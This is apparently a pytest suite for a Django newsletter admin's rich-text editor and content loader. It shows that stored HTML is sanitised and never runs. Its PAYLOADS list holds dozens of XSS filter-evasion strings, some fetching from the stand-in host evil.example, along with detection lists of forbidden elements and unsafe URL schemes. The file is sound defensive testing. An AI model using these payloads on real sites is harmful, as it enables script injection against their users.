"""The editors' rich-text editor, and proof that no HTML an editor or the content files give
reaches a page as something that runs."""

import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml
from django.contrib.staticfiles import finders
from django.test import Client
from django.urls import reverse
from django.utils import translation
from playwright.sync_api import expect, sync_playwright

from alliance.content import ContentLoader
from alliance.html import sanitise_html
from newsletters.models import Article
from tests.factories import make_article, make_issue, make_section

pytestmark = pytest.mark.django_db

# In the spirit of OWASP's XSS filter evasion cheat sheet and the mutation-XSS papers.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script/xss src=x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<template><script>alert(1)</script></template>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="javascript:alert(1) 1x">',
    '<img src="https://example.org/a.png" srcset="data:text/html,x 2x" alt="a">',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    '<img src="https://example.org/a.png" alt="a" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click</math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://example.org/" onmouseover="alert(1)">x</a>',
    '<a href="https://example.org/" formaction="javascript:alert(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    "<body onload=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<object><param name="src" value="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<applet code="javascript:alert(1)"></applet>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex action="javascript:alert(1)" type=image>',
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onpointerover="alert(1)">x</div>',
    "<h2 onmouseover=alert(1)>x</h2>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    '<xss style="behavior: url(x.htc)">x</xss>',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td>'
    "</tr></table>",
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<p class="x" id="y" onclick="alert(1)">x</p>',
    "<!--<script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "</div><script>alert(1)</script><div>",
]
# Raw-text elements too: html.parser reads them unlike a browser, so none may reach a page.
FORBIDDEN_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "style", "base", "link", "form", "input", "button", "select", "textarea", "template",
    "noscript", "noembed", "noframes", "xmp", "title", "plaintext",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "srcset", "background", "data", "poster",
    "xlink:href", "cite", "dynsrc", "lowsrc", "code",
}  # fmt: skip
UNSAFE_SCHEMES = ("javascript:", "vbscript:", "data:")
# What the journal publishes, as it is stored: links gain rel, nothing else changes.
JOURNAL_MARKUP = (
    "<h2>绿色丝路</h2><h3>进展</h3><h4>细节</h4>"
    "<p><strong>加粗</strong>与<em>强调</em>，见"
    '<a href="https://www.brigc.net/" title="联盟" rel="noopener noreferrer">联盟网站</a>、'
    '<a href="/zh-hans/issues/" rel="noopener noreferrer">往期</a>或'
    '<a href="mailto:secretariat@brigc.net" rel="noopener noreferrer">来信</a>。</p>'
    "<ul><li>一</li><li>二</li></ul><ol><li>第一</li><li>第二</li></ol>"
    "<blockquote><p>绿色是底色。</p></blockquote>"
    '<table><caption>项目</caption><thead><tr><th scope="col">国家</th><th scope="col">项目</th>'
    "</tr></thead><tbody><tr><td>挪威</td><td>海洋</td></tr></tbody></table>"
    '<figure><img src="https://www.brigc.net/cover.png" alt="封面" width="600" height="400">'
    "<figcaption>封面</figcaption></figure>"
)
EDITOR_ASSETS = ["vendor/jodit/jodit.min.css", "vendor/jodit/jodit.min.js", "js/rich-text.js"]
CHROMIUM = Path("/usr/bin/chromium")


def unsafe_url(name, value):
    """Whether a URL attribute would run, read as a browser reads it: html.parser has already
    unescaped it, and browsers skip blanks and control characters in a scheme."""
    candidates = value.split(",") if name == "srcset" else [value]
    return any(
        re.sub(r"[\s\x00-\x1f\x7f]", "", candidate).lower().startswith(UNSAFE_SCHEMES)
        for candidate in candidates
    )


class MarkupAudit(HTMLParser):
    """Everything in a page that could run.

    Elements are judged inside the article body, since the page has its own JSON-LD script
    outside it; handlers, URLs and scripts anywhere, so markup that breaks out of the body is
    caught as well. A stored fragment is all body.
    """

    def __init__(self, *, fragment):
        super().__init__(convert_charrefs=True)
        self.fragment = fragment
        self.body_found = fragment
        self.depth = 0
        self.problems = []
        self.text = []

    @property
    def in_body(self):
        return self.fragment or self.depth > 0

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if self.depth and tag == "div":
            self.depth += 1
        elif tag == "div" and "article__body" in (attributes.get("class") or "").split():
            self.body_found = True
            self.depth = 1
            return
        if self.in_body and tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}> in the body")
        if self.in_body and tag == "meta" and "http-equiv" in attributes:
            self.problems.append("<meta http-equiv> in the body")
        if self.in_body and "style" in attributes:
            self.problems.append(f"style on <{tag}> in the body")
        if tag == "script" and (
            attributes.get("type") != "application/ld+json" or "src" in attributes
        ):
            self.problems.append(f"executable <script {attrs}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"handler {name} on <{tag}>")
            if name in URL_ATTRIBUTES and value and unsafe_url(name, value):
                self.problems.append(f"{name}={value!r} on <{tag}>")

    def handle_endtag(self, tag):
        if self.depth and tag == "div":
            self.depth -= 1

    def handle_data(self, data):
        if self.in_body:
            self.text.append(data)

    # Browsers end comments and CDATA sections where html.parser does not (<!-->, <![CDATA[>),
    # so the sanitised body must hold none for this audit to read it as a browser does.
    def handle_comment(self, data):
        if self.in_body:
            self.problems.append(f"comment <!--{data}--> in the body")

    def unknown_decl(self, data):
        if self.in_body:
            self.problems.append(f"declaration <![{data}]> in the body")

    def handle_decl(self, decl):
        if self.in_body:
            self.problems.append(f"declaration <!{decl}> in the body")

    def handle_pi(self, data):
        if self.in_body:
            self.problems.append(f"processing instruction <?{data}> in the body")


def audit(markup, *, fragment=False):
    parser = MarkupAudit(fragment=fragment)
    parser.feed(markup)
    parser.close()
    assert parser.body_found, "the page has no article body"
    return parser


class SubmittedValues(HTMLParser):
    """The name–value pairs a browser submits with a form, read from its HTML."""

    def __init__(self, form_id):
        super().__init__(convert_charrefs=True)
        self.form_id = form_id
        self.in_form = False
        self.select = None
        self.textarea = None
        self.values = {}

    def add(self, name, value):
        self.values.setdefault(name, []).append(value)

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "form":
            self.in_form = attributes.get("id") == self.form_id
        name = attributes.get("name")
        if not self.in_form:
            return
        kind = attributes.get("type", "text")
        if tag == "input" and name and kind not in {"submit", "button", "reset", "file", "image"}:
            if kind not in {"checkbox", "radio"}:
                self.add(name, attributes.get("value", ""))
            elif "checked" in attributes:
                self.add(name, attributes.get("value", "on"))
        elif tag == "textarea" and name:
            self.textarea = (name, [])
        elif tag == "select" and name:
            self.select = name
        elif tag == "option" and self.select and "selected" in attributes:
            self.add(self.select, attributes.get("value", ""))

    def handle_data(self, data):
        if self.textarea:
            self.textarea[1].append(data)

    def handle_endtag(self, tag):
        if tag == "form":
            self.in_form = False
        elif tag == "select":
            self.select = None
        elif tag == "textarea" and self.textarea:
            name, parts = self.textarea
            # A browser drops the newline that follows <textarea>.
            self.add(name, "".join(parts).removeprefix("\n"))
            self.textarea = None


def change_form_values(client, article):
    url = reverse("admin:newsletters_article_change", args=[article.pk])
    parser = SubmittedValues("article_form")
    parser.feed(client.get(url).content.decode())
    assert parser.values, "the change form was not found"
    return url, parser.values


def public_pages(article):
    visitor = Client()
    pages = {}
    for language in ("zh-hans", "en"):
        url = article.get_absolute_url().replace("/zh-hans/", f"/{language}/")
        response = visitor.get(url)
        assert response.status_code == 200, url
        pages[language] = response.content.decode()
    return pages


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_saved_through_the_admin_reaches_a_page_as_markup(staff_client, payload):
    article = make_article()
    url, values = change_form_values(staff_client, article)
    values.update(body_zh_hans=[payload], body_en=[payload])

    response = staff_client.post(url, values)

    assert response.status_code == 302, response.context and response.context["errors"]
    article.refresh_from_db()
    for stored in (article.body_zh_hans, article.body_en):
        assert not audit(stored, fragment=True).problems, stored
    for language, page in public_pages(article).items():
        assert not audit(page).problems, language


def write_content(directory, paragraph):
    """A content folder in the loader's format, with one article whose body is the paragraph."""
    (directory / "issues").mkdir()
    coalition = {"sections": [{"slug": "news", "name": {"zh_hans": "联盟动态", "en": "News"}}]}
    issue = {
        "issue": {"number": 1, "date": "2019-05-31", "title": {"zh_hans": "第一期"}},
        "articles": [
            {
                "slug": "payload",
                "section": "news",
                "title": {"zh_hans": "测试", "en": "Test"},
                "body": [paragraph],
                "body_en": [paragraph],
            }
        ],
    }
    for path, data in (
        (directory / "coalition.yaml", coalition),
        (directory / "issues" / "1.yaml", issue),
    ):
        path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_in_the_content_files_reaches_a_page_as_markup(tmp_path, payload):
    write_content(tmp_path, payload)

    ContentLoader(tmp_path).load()

    article = Article.objects.get(slug="payload")
    for stored in (article.body_zh_hans, article.body_en):
        result = audit(stored, fragment=True)
        assert not result.problems, stored
        # The loader takes paragraphs as text: the payload is shown, never parsed.
        assert "".join(result.text) == payload.strip(), stored
    for language, page in public_pages(article).items():
        assert not audit(page).problems, language


def test_the_audit_sees_every_payload_that_runs_as_written():
    """The audit is not blind: unsanitised, each payload is reported. The split tag is the
    exception; it runs nowhere as written, only after a filter that removes "<script>" once."""
    for payload in PAYLOADS:
        if not payload.startswith("<scr<script>"):
            assert audit(payload, fragment=True).problems, payload


def test_the_journals_markup_survives_the_admin_and_reaches_the_page(staff_client):
    article = make_article()
    url, values = change_form_values(staff_client, article)
    markup = JOURNAL_MARKUP.replace(' rel="noopener noreferrer"', "")
    values.update(body_zh_hans=[markup], body_en=[markup])

    assert staff_client.post(url, values).status_code == 302

    article.refresh_from_db()
    assert article.body_zh_hans == article.body_en == JOURNAL_MARKUP
    for page in public_pages(article).values():
        assert JOURNAL_MARKUP in page


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_the_article_form_loads_the_editor_from_the_site_only(staff_client, language):
    article = make_article(body_zh_hans="<p>正文</p>")
    with translation.override(language):
        url = reverse("admin:newsletters_article_change", args=[article.pk])

    page = staff_client.get(url).content.decode()

    assets = re.findall(r'<(?:script|link)[^>]+(?:src|href)="([^"]+)"', page)
    for asset in EDITOR_ASSETS:
        assert f"/static/{asset}" in assets
        assert finders.find(asset), asset
    assert not [asset for asset in assets if urlsplit(asset).netloc]
    # Both languages' bodies become editors in the admin's language; without JavaScript they
    # stay textareas holding the HTML.
    for field in ("body_zh_hans", "body_en"):
        textarea = re.search(rf'<textarea [^>]*name="{field}"[^>]*>', page)
        assert textarea and "data-rich-text" in textarea[0], field
        assert f'data-language="{language}"' in textarea[0], field
    assert "&lt;p&gt;正文&lt;/p&gt;</textarea>" in page


@pytest.fixture
def browser(monkeypatch):
    if not CHROMIUM.exists():
        pytest.skip(f"no Chromium at {CHROMIUM} for the real-browser checks")
    # Playwright's sync API runs an event loop in this thread, where Django refuses the ORM.
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM),
            args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        yield browser
        browser.close()


def log_in(page, live_server, django_user_model):
    django_user_model.objects.create_superuser("editor", "editor@example.org", "pw")
    page.goto(f"{live_server.url}/zh-hans/admin/login/")
    page.fill("#id_username", "editor")
    page.fill("#id_password", "pw")
    page.click("input[type=submit]")
    page.wait_for_url("**/zh-hans/admin/")


@pytest.mark.django_db(transaction=True)
def test_without_javascript_the_body_is_a_plain_textarea(browser, live_server, django_user_model):
    article = make_article(body_zh_hans="<p>正文</p>")
    page = browser.new_page(java_script_enabled=False)
    log_in(page, live_server, django_user_model)

    page.goto(live_server.url + reverse("admin:newsletters_article_change", args=[article.pk]))

    expect(page.locator("textarea[name=body_zh_hans]")).to_have_value("<p>正文</p>")
    expect(page.locator("textarea[name=body_zh_hans]")).to_be_visible()
    expect(page.locator(".jodit-container")).to_have_count(0)


@pytest.mark.django_db(transaction=True)
def test_an_editor_writes_bold_text_in_both_languages_in_a_real_browser(
    browser, live_server, django_user_model
):
    issue, section = make_issue(), make_section()
    page = browser.new_page()
    requested = []
    page.on("request", lambda request: requested.append(request.url))
    log_in(page, live_server, django_user_model)

    page.goto(
        f"{live_server.url}/zh-hans/admin/newsletters/article/add/?issue={issue.pk}"
        f"&section={section.pk}&position=1&title_zh_hans=绿色发展&slug=green"
    )
    chinese, english = page.locator("#tab_id_body_zh_hans"), page.locator("#tab_id_body_en")
    expect(chinese.locator(".jodit-wysiwyg")).to_be_visible()
    buttons = chinese.locator(".jodit-toolbar-button").evaluate_all(
        "buttons => buttons.map(button => button.dataset.ref)"
    )
    assert buttons == ["paragraph", "bold", "italic", "ul", "ol", "link", "image", "table"]
    expect(chinese.locator(".jodit-toolbar-button_bold button")).to_have_attribute(
        "aria-label", "粗体"
    )
    chinese.locator(".jodit-wysiwyg").click()
    page.keyboard.type("绿色是底色")
    page.keyboard.press("Control+A")
    chinese.locator(".jodit-toolbar-button_bold button").click()

    page.click("a[href='#tab_id_body_en']")
    expect(english.locator(".jodit-wysiwyg")).to_be_visible()
    expect(chinese.locator(".jodit-wysiwyg")).to_be_hidden()
    english.locator(".jodit-wysiwyg").click()
    page.keyboard.type("Green is the base colour")
    page.keyboard.press("Control+A")
    english.locator(".jodit-toolbar-button_italic button").click()
    page.click("input[name=_save]")
    page.wait_for_url("**/newsletters/article/")

    article = Article.objects.get(slug="green")
    assert article.body_zh_hans == "<p><strong>绿色是底色</strong></p>"
    assert article.body_en == "<p><em>Green is the base colour</em></p>"
    assert {urlsplit(url).netloc for url in requested} == {urlsplit(live_server.url).netloc}


def without_content_security_policy(route):
    response = route.fetch()
    headers = {
        name: value
        for name, value in response.headers.items()
        if name.lower() != "content-security-policy"
    }
    route.fulfill(response=response, headers=headers)


@pytest.mark.django_db(transaction=True)
def test_no_payload_runs_in_a_real_browser(browser, live_server):
    article = make_article(body_zh_hans="".join(sanitise_html(p) for p in PAYLOADS))
    page = browser.new_page()
    # The site's Content-Security-Policy would block inline handlers anyway; without it, this
    # proves that the sanitiser alone keeps every payload from running.
    page.route(f"{live_server.url}/**", without_content_security_policy)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    requested = []
    page.on("request", lambda request: requested.append(request.url))

    page.goto(live_server.url + article.get_absolute_url(), wait_until="load")
    # Handlers such as ontoggle and onfocus fire just after the load.
    page.wait_for_timeout(500)

    assert not dialogs
    assert page.url == live_server.url + article.get_absolute_url()
    assert not [url for url in requested if "evil.example" in url]
